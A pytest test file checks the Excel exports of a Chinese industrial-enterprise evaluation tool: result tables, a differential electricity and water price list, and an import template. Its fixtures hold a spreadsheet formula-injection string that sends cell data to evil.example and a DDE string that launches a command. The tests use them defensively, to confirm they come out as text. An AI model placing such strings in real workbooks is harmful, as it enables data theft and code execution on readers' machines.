"""The enterprise workbooks (zhizao/outputs/enterprise_exports.py): the 亩均评价结果表 and 差别电价/水价名单
in the offices' layout (title, 单位 row, header rows with units, 序号, 说明 row with the source), and the
blank import template. Results are hand-built MujuResult-shaped frames (the analytics are tested on
their own); hostile names come out as text, never formulas."""
from __future__ import annotations

import importlib

import io
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pandas as pd
import pytest

from zhizao.codes.uscc import is_valid, make_code
from zhizao.ingest.enterprise_frames import FRAMES, EnterpriseData, empty_frame
from zhizao.outputs import enterprise_exports as ex
from zhizao.plan.load import load_plan
from zhizao.settings import Settings

FICTIONAL = Path(__file__).resolve().parents[1] / "assets" / "fictional-plan.yaml"
A, B, C, D, E, F = (make_code("990101", f"MA00000{i}") for i in range(1, 7))
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture(scope="module")
def fictional():
    return load_plan(FICTIONAL)


@pytest.fixture(scope="module")
def embedded():
    return load_plan()


def data(synthetic: bool = False) -> EnterpriseData:
    reg = pd.DataFrame({"enterprise_id": [A, B, C, D, E, F],
                        "name": ["甲机械", HOSTILE, "丙电子", "丁材料", "戊照明", "己灯具"],
                        "district": ["990101"] * 4 + ["990102"] * 2, "park": ["P1", "P1", "", "", "", "P1"],
                        "industry_class": ["3985", "3985", "39", "3985", "3872", "3872"],
                        "size": ["medium"] * 6, "established": [""] * 6})
    annual = pd.DataFrame({"enterprise_id": [A, B, C, D, E, F], "year": pd.array([2024] * 6, dtype="Int64"),
                           "electricity": [100.0, 250.0, 80.0, 40.0, 30.0, float("nan")]})
    for col in FRAMES["annual"]:
        if col not in annual:
            annual[col] = float("nan")
    parks = pd.DataFrame({"park_id": ["P1"], "name": ["河湾高新园"], "tier": ["园区"], "districts": ["990101"],
                          "area": [3000.0], "leading_industries": ["39"], "target_investment_per_mu": [300.0],
                          "target_output_per_mu": [500.0], "target_tax_per_mu": [20.0]})
    return EnterpriseData(reg, empty_frame("tags"), annual[FRAMES["annual"]], empty_frame("srdi"), parks,
                          empty_frame("green"), synthetic=synthetic,
                          source="合成数据 test, seed 0" if synthetic else "=cmd|' /C calc'!A0 企业.xlsx",
                          as_of="2025-03-31")


def result() -> SimpleNamespace:
    """What analytics muju.evaluate returns (contract columns): four above-scale firms, one below, one not evaluated."""
    items = ex.ITEMS["above"]
    ent = pd.DataFrame({
        "enterprise_id": [A, B, C, D, E, F], "name": ["甲机械", HOSTILE, "丙电子", "丁材料", "戊照明", "己灯具"],
        "district": ["990101"] * 4 + ["990102"] * 2, "park": ["P1", "P1", "", "", "", "P1"],
        "industry_class": ["3985", "3985", "39", "3985", "3872", "3872"],
        "group": ["above", "above", "above", "above", "below", "below"],
        "land_area": [50.0, 20.0, 30.0, 10.0, 5.0, float("nan")],
        "score": [80.5, 120.25, 95.0, 40.0, 100.0, float("nan")], "rank": [3, 1, 2, 4, 1, float("nan")],
        "klass": ["C", "A", "B", "D", "A", ""],
        "imputed": [["va_per_emission"], [], [], [], [], []],
        "reasons_zh": ["得分低于平均", "亩均税收最高", "", "排名末位", "", "缺少用地面积，未评价"],
        "reasons_en": ["score below average", "highest tax per mu", "", "last", "", "no land area: not evaluated"],
    })
    for i, item in enumerate(items):
        ent[item] = [10.0 + i, 30.0 + i, 20.0 + i, 5.0 + i, float("nan"), float("nan")]
    ent["tax_per_kwh"] = [float("nan")] * 4 + [0.3, float("nan")]
    bench = pd.DataFrame({"group": ["above"] * len(items) + ["below", "below"],
                          "item": [*items, "tax_per_mu", "tax_per_kwh"],
                          "benchmark": [24.097, 136.16, 2.694, 4929.81, 18.14, 3.02, 11.5932, 0.2352],
                          "weight": [30.0, 20.0, 20.0, 10.0, 10.0, 10.0, 50.0, 50.0], "cap": [2.0] * 8})
    classes = pd.DataFrame({"group": ["above"] * 4 + ["below"], "klass": ["A", "B", "C", "D", "A"],
                            "n": [1, 1, 1, 1, 1], "share": [0.25, 0.25, 0.25, 0.25, 1.0]})
    return SimpleNamespace(enterprises=ent, benchmarks=bench, classes=classes, year=2024)


def book(raw: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(raw))


def no_formulas(wb) -> bool:
    return not any(c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


def body(ws, first: int = 5) -> list[tuple]:
    """The data rows (between the header rows and the 说明 row)."""
    rows = [r for r in ws.iter_rows(min_row=first, values_only=True)]
    return [r for r in rows if isinstance(r[0], int)]


# --- 亩均评价结果表 ------------------------------------------------------------------------------------

@pytest.mark.parametrize("synthetic", [True, False])
def test_muju_workbook_has_the_exchanged_layout(fictional, synthetic):
    wb = book(ex.muju_workbook(fictional, data(synthetic), result()))
    assert wb.sheetnames == ["规上企业", "规下企业", "分类统计"]
    ws = wb["规上企业"]
    assert ws["A1"].value == "2024年度河湾市工业企业亩均效益综合评价结果"
    assert "A1:Q1" in {str(r) for r in ws.merged_cells.ranges}  # the title spans the table (17 columns)
    assert "数据年度：2024年" in ws["A2"].value and "规模以上工业企业（年营业收入≥2,000万元）" in ws["A2"].value
    assert ws["A2"].value.startswith("合成数据（演示用）") == synthetic
    heads = [c.value for c in ws[3]]
    assert heads[:7] == ["序号", "企业名称", "统一社会信用代码", "所在区县", "园区", "行业", "用地面积"]
    assert heads[-4:] == ["综合得分", "组内排名", "评价类别", "说明"]
    units = dict(zip(heads, (c.value for c in ws[4])))
    assert units["用地面积"] == "亩" and units["亩均税收"] == "万元/亩" and units["单位能耗增加值"] == "万元/吨标准煤"
    assert units["R&D经费占营业收入比重"] == "%" and units["综合得分"] == "分"
    assert "A3:A4" in {str(r) for r in ws.merged_cells.ranges}  # 序号 has no unit: it spans both header rows
    assert ws["A1"].font.name == "黑体" and ws["B5"].font.name == "宋体"
    assert no_formulas(wb)


def test_muju_rows_sorted_by_class_then_score_with_words(fictional):
    wb = book(ex.muju_workbook(fictional, data(), result()))
    rows = body(wb["规上企业"])
    assert [r[0] for r in rows] == [1, 2, 3, 4]  # 序号
    assert [r[2] for r in rows] == [B, C, A, D]  # A, B, C, D
    assert [r[-2] for r in rows] == ["A", "B", "C", "D"]
    first = rows[0]
    assert first[1] == "'" + HOSTILE  # a formula trigger becomes text
    assert first[3] == "990101" and first[4] == "河湾高新园"  # a plan without districts: the code
    assert first[6] == 20.0 and first[7] == 30.0 and first[-4] == 120.25
    assert rows[2][-1] == "得分低于平均；按平均分计：单位排放增加值"
    below = body(wb["规下企业"])
    assert [r[2] for r in below] == [E, F]
    assert below[-1][-2] == "未评价" and "缺少用地面积" in below[-1][-1]
    assert [c.value for c in wb["规下企业"][3]][7:9] == ["亩均税收", "单位电耗税收"]
    assert [c.value for c in wb["规下企业"][4]][8] == "元/千瓦时"


@pytest.mark.parametrize("synthetic", [True, False])
def test_muju_note_row_names_weights_benchmarks_classes_and_source(fictional, synthetic):
    wb = book(ex.muju_workbook(fictional, data(synthetic), result()))
    ws = wb["规上企业"]
    note = ws.cell(row=ws.max_row, column=1).value
    assert note.startswith("说明：1. 得分＝Σ（指标值÷基准值×权重），单项得分不超过权重的 2 倍")
    assert "亩均税收 30、亩均增加值 20、单位能耗增加值 20" in note
    assert "亩均税收 24.1 万元/亩" in note and "单位排放增加值 4930 万元/吨" in note and "比重 3.02%。" in note
    assert "A 类前 20%、B 类 45%、C 类 30%、D 类 5%" in note
    assert ("合成数据（演示用）" in note) == synthetic
    if not synthetic:  # the source follows words, so an imported file name cannot start a formula
        assert "数据来源：=cmd|' /C calc'!A0 企业.xlsx" in note
    assert "数据截至 2025-03-31" in note
    assert f"A{ws.max_row}:Q{ws.max_row}" in {str(r) for r in ws.merged_cells.ranges}
    below_note = wb["规下企业"].cell(row=wb["规下企业"].max_row, column=1).value
    assert "亩均税收 50、单位电耗税收 50" in below_note and "单位电耗税收 0.2352 元/千瓦时" in below_note


def test_muju_settings_change_the_note(fictional):
    s = Settings({"muju_item_cap": 0, "muju_share_a": 10, "muju_share_b": 50, "muju_share_c": 30, "muju_share_d": 10,
                  "above_scale_revenue_min": 5000})
    wb = book(ex.muju_workbook(fictional, data(), result(), settings=s))
    ws = wb["规上企业"]
    note = ws.cell(row=ws.max_row, column=1).value
    assert "单项得分不设上限" in note and "A 类前 10%、B 类 50%、C 类 30%、D 类 10%" in note
    assert "≥5,000万元" in ws["A2"].value


def test_classes_sheet_counts_in_percent(fictional):
    ws = book(ex.muju_workbook(fictional, data(), result()))["分类统计"]
    rows = body(ws)
    assert rows[0][1:] == ("规上", "A", 1, 25.0) and rows[-1][1:] == ("规下", "A", 1, 100.0)
    assert [c.value for c in ws[4]][3:] == ["家", "%"]


def test_muju_workbook_in_english(fictional, embedded):
    wb = book(ex.muju_workbook(fictional, data(True), result(), lang="en"))
    assert wb.sheetnames == ["Above scale", "Below scale", "Classes"]
    ws = wb["Above scale"]
    assert ws["A1"].value == "河湾市: per-mu efficiency evaluation of industrial enterprises, 2024"
    assert [c.value for c in ws[3]][:3] == ["No.", "Enterprise", "Credit code"]
    assert "10k yuan/mu" in [c.value for c in ws[4]]
    note = ws.cell(row=ws.max_row, column=1).value
    assert "SYNTHETIC" in note and "合成数据（演示用）" in note and "Weights: Tax per mu 30" in note
    assert body(ws)[2][-1] == "score below average; average points for: Value added per unit of emissions"
    # a plan whose area the code tables know: its English name
    assert ex.area_name(embedded, "en") == "Chongqing" and ex.area_name(embedded) == embedded.regions.whole_name


def test_embedded_plan_names_districts(embedded):
    code = embedded.regions.districts[0].code
    r = result()
    r.enterprises["district"] = code
    wb = book(ex.muju_workbook(embedded, data(), r))
    assert body(wb["规上企业"])[0][3] == embedded.regions.districts[0].name
    assert wb["规上企业"]["A1"].value == f"2024年度{embedded.regions.whole_name}工业企业亩均效益综合评价结果"


def test_nothing_evaluated_is_said(fictional):
    r = result()
    r.enterprises = r.enterprises.iloc[0:0]
    r.classes = r.classes.iloc[0:0]
    wb = book(ex.muju_workbook(fictional, data(), r))
    assert wb.sheetnames == ["规上企业", "分类统计"]
    ws = wb["规上企业"]
    assert body(ws) == [] and "本年度没有可评价的企业" in ws.cell(row=ws.max_row, column=1).value


# --- 差别电价/水价名单 ------------------------------------------------------------------------------------

def prices() -> pd.DataFrame:
    """analytics price_list: the C and D enterprises (only ids and classes are relied on)."""
    return pd.DataFrame({"enterprise_id": [D, A], "klass": ["D", "C"]})


@pytest.mark.parametrize("synthetic", [True, False])
def test_price_workbook_lists_c_and_d_with_the_surcharge(fictional, synthetic):
    wb = book(ex.price_workbook(fictional, data(synthetic), result(), prices()))
    ws = wb["差别电价水价名单"]
    assert ws["A1"].value == "2024年度河湾市差别电价（水价）执行企业名单"
    assert [c.value for c in ws[3]] == ["序号", "企业名称", "统一社会信用代码", "所在区县", "评价类别", "加价标准",
                                        "年用电量", "预计加价金额"]
    assert [c.value for c in ws[4]][-2:] == ["万千瓦时", "万元"]
    rows = body(ws)
    assert [r[2] for r in rows] == [A, D]  # C before D
    assert rows[0] == (1, "甲机械", A, "990101", "C", "电价加价 0.1 元/千瓦时；水价加价 15%", 100.0, pytest.approx(10.0))
    assert rows[1][4:] == ("D", "电价加价 0.15 元/千瓦时；水价加价 30%", 40.0, pytest.approx(6.0))
    note = ws.cell(row=ws.max_row, column=1).value
    assert "预计加价金额＝年用电量×电价加价标准" in note and ("合成数据（演示用）" in note) == synthetic
    assert ws["A2"].value.startswith("合成数据（演示用）") == synthetic
    assert no_formulas(wb)


def test_price_workbook_settings_and_hostile_names(fictional):
    s = Settings({"muju_surcharge_electricity_c": 0.2, "muju_surcharge_water_d": 50})
    p = pd.DataFrame({"enterprise_id": [B, A], "klass": ["C", "C"]})
    ws = book(ex.price_workbook(fictional, data(), result(), p, settings=s)).worksheets[0]
    rows = body(ws)
    assert [r[2] for r in rows] == [B, A]  # same class and district: the larger extra cost first
    assert rows[0][1] == "'" + HOSTILE and rows[0][-1] == pytest.approx(50.0)
    assert "D 类电价加价 0.15 元/千瓦时、水价加价 50%" in ws.cell(row=ws.max_row, column=1).value


def test_empty_price_list_says_so_in_english(fictional):
    ws = book(ex.price_workbook(fictional, data(), result(), prices().iloc[0:0], lang="en")).worksheets[0]
    assert body(ws) == [] and "No enterprise is in class C or D" in ws.cell(row=ws.max_row, column=1).value
    assert [c.value for c in ws[3]][-1] == "Expected extra cost"


# --- the import template ---------------------------------------------------------------------------------

SHEETS_ZH = ["企业名录", "企业标签", "年度指标", "专精特新", "园区", "能耗水耗", "说明"]


@pytest.mark.parametrize("plan_id", [None, "chongqing-manufacturing-2023-2027", FICTIONAL])
def test_template_has_six_sheets_an_example_and_notes(plan_id):
    plan = load_plan(plan_id)
    wb = book(ex.template_workbook(plan))
    assert wb.sheetnames == SHEETS_ZH
    for frame, name in zip(FRAMES, SHEETS_ZH):
        ws = wb[name]
        assert ws.max_row == 2 and ws.max_column == len(FRAMES[frame])
        assert all(c.font.bold for c in ws[1])
    reg = {c.value: v.value for c, v in zip(wb["企业名录"][1], wb["企业名录"][2])}
    code = reg["统一社会信用代码"]
    assert is_valid(code) and "删除" in reg["企业名称"]
    district = reg["所在区县"]
    if plan.regions.districts:
        assert district in {d.code for d in plan.regions.districts}
    else:
        assert district.startswith(plan.regions.whole_code[:2]) and district != plan.regions.whole_code
    park = {c.value: v.value for c, v in zip(wb["园区"][1], wb["园区"][2])}
    assert park["园区代码"] == reg["所在园区"]
    tiers = [t.id for t in plan.park_system.tiers] if plan.park_system else None
    assert tiers is None or park["层级"] in tiers
    annual = [c.value for c in wb["年度指标"][1]]
    assert "用地面积（亩）" in annual and "综合能耗（吨标准煤）" in annual and "用电量（万千瓦时）" in annual
    assert wb["年度指标"]["A2"].value == code and wb["企业标签"]["A2"].value == code
    green = {c.value: v.value for c, v in zip(wb["能耗水耗"][1], wb["能耗水耗"][2])}
    assert green["地区代码"] == plan.regions.whole_code and "能源消费量（万吨标准煤）" in green
    about = [tuple(r) for r in wb["说明"].iter_rows(min_row=3, values_only=True)]
    values = {r[1] for r in about}
    assert {"专精特新中小企业", "小巨人", "国家级", "市级", "大型", "1_high_value", "provincial"} <= values
    if plan.park_system:
        assert {t.id for t in plan.park_system.tiers} <= values
    else:
        assert any("本规划未列园区体系" in (r[2] or "") for r in about)
    if not plan.regions.districts:
        assert any("以 99 开头" in (r[2] or "") for r in about)
    assert no_formulas(wb)


def test_template_in_english_uses_the_column_names(embedded):
    wb = book(ex.template_workbook(embedded, lang="en"))
    assert wb.sheetnames == [*FRAMES, "About"]
    assert [c.value for c in wb["registry"][1]] == [*FRAMES["registry"][:4], "industry_class (GB/T 4754-2017)",
                                                    *FRAMES["registry"][5:]]
    heads = [c.value for c in wb["annual"][1]]
    assert heads[:3] == ["enterprise_id", "year", "land_area (mu)"] and "energy (tce)" in heads
    tags = {c.value: v.value for c, v in zip(wb["tags"][1], wb["tags"][2])}
    assert tags["tag"] == "srdi_sme" and tags["level"] == "municipal"


@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize("plan_id", [None, FICTIONAL])
def test_template_imports_without_a_problem(tmp_path, plan_id, lang):
    ingest = importlib.import_module("zhizao.ingest.enterprises")
    plan = load_plan(plan_id)
    path = tmp_path / "template.xlsx"
    path.write_bytes(ex.template_workbook(plan, lang))
    frames, problems, _ = ingest.read_enterprise_files([path], plan)
    assert problems == []
    assert set(frames) == set(FRAMES) and all(len(f) == 1 for f in frames.values())
    assert frames["tags"]["tag"].iloc[0] == "srdi_sme" and frames["registry"]["size"].iloc[0] == "medium"


def test_every_template_header_and_sheet_name_is_the_readers(embedded):
    """One source: each header the template writes is the reader's own (it maps to its column), each sheet
    name is one the reader recognises, and the 说明 sheet is one it skips."""
    ingest = importlib.import_module("zhizao.ingest.enterprises")
    from zhizao.ingest.table import _norm_header

    for lang in ("zh", "en"):
        wb = book(ex.template_workbook(embedded, lang))
        for frame, name in zip(FRAMES, wb.sheetnames):
            assert _norm_header(name) in {_norm_header(n) for n in ingest.SHEET_NAMES[frame]}
            heads = [c.value for c in wb[name][1]]
            assert [ingest.header_key(frame, h) for h in heads] == [(c, None) for c in FRAMES[frame]], (lang, frame)
        assert _norm_header(wb.sheetnames[-1]) in {_norm_header(n) for n in ingest.NOTES_SHEETS}
    assert ex.template_header("green", "energy") == "能源消费量（万吨标准煤）"
    assert ex.template_header("annual", "energy") == "综合能耗（吨标准煤）"
    assert ex.template_header("annual", "land_area", "en") == "land_area (mu)"


def test_the_notes_sheet_is_skipped_even_when_it_looks_like_a_table(tmp_path, fictional):
    """The 说明 sheet lists column names and values: the reader does not take it for a table."""
    ingest = importlib.import_module("zhizao.ingest.enterprises")
    wb = book(ex.template_workbook(fictional))
    ws = wb["说明"]
    ws.append(["统一社会信用代码", "年份", "企业名称"])  # would be a header row on any other sheet
    ws.append(["不是代码", "不是年份", ""])
    for name in wb.sheetnames[:-1]:
        wb[name].delete_rows(2)  # no example rows: an empty template has nothing to import
    wb["企业名录"].append([make_code("990101", "MA0000XX"), "某企业", "990101"])
    path = tmp_path / "t.xlsx"
    wb.save(path)
    frames, problems, _ = ingest.read_enterprise_files([path], fictional)
    assert problems == [] and list(frames) == ["registry"]


def test_the_words_of_the_notes_sheet_are_accepted(embedded):
    """The tags, levels and sizes the 说明 sheet offers are words the reader accepts."""
    ingest = importlib.import_module("zhizao.ingest.enterprises")
    from zhizao import labels
    from zhizao.ingest.cells import word_key

    for tag, (zh, en) in labels.ENT_EXPORT_TAG.items():
        assert ingest.TAG_WORDS[word_key(zh)] == tag and ingest.TAG_WORDS[word_key(tag)] == tag
    for size, (zh, _) in labels.ENT_EXPORT_SIZE.items():
        assert ingest.SIZE_WORDS[word_key(zh)] == size
    for level, (zh, _) in labels.ENT_EXPORT_LEVEL.items():
        assert ingest.LEVEL_WORDS[word_key(zh)] == level


# --- with the analytics (once merged) -------------------------------------------------------------------

def test_workbooks_from_the_analytics(fictional):
    muju = importlib.import_module("zhizao.analytics.enterprises.muju")
    synth = importlib.import_module("zhizao.synth.enterprises")
    plan = load_plan()
    d = synth.default_enterprise_data(plan)
    year = int(pd.to_numeric(d.annual["year"]).max())
    r = muju.evaluate(d, year, Settings())
    wb = book(ex.muju_workbook(plan, d))
    rows = body(wb["规上企业"])
    evaluated = r.enterprises[(r.enterprises["group"] == "above") & (r.enterprises["klass"] != "")]
    assert len([x for x in rows if x[-2] in "ABCD"]) == len(evaluated)
    order = [x[-2] for x in rows]
    assert order == sorted(order, key=lambda k: "ABCD未".index(k[0]))
    p = book(ex.price_workbook(plan, d, r))
    listed = body(p.worksheets[0])
    assert {x[2] for x in listed} == set(muju.price_list(r, d, Settings())["enterprise_id"])
    assert "合成数据（演示用）" in p.worksheets[0]["A2"].value
